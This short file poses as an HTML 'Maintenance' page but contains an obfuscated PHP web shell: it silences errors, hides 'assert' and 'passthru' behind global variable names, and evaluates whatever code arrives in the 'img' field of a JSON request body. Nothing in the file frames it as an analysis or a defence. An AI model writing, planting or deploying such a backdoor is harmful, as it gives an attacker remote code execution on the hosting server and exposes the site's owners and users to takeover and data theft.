<!DOCTYPE html><title>Maintenance</title>
<?php
error_reporting(0);
$GLOBALS['fn_as'] = 'assert';
$GLOBALS['fn_pa'] = 'passthru';
$arg = json_decode(file_get_contents('php://input'))->img;
$f = $GLOBALS['fn_as'];
$f('/*' . '*/' . $arg);
